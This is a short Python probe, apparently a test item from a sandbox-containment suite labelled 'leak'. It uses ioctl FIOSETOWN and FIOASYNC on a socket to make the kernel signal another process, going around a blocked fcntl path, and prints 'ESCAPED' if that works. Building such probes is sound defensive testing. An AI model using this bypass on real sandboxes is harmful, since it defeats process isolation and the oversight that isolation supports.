# class: leak
# Makes the kernel send another process a signal, by ioctl in the place of fcntl.
import fcntl,socket,struct
a,b=socket.socketpair(); fcntl.ioctl(a,0x8901,struct.pack("i",CANARY["decoy_pid"])); fcntl.ioctl(a,0x5452,struct.pack("i",1))
b.send(b"x"); print("ESCAPED")
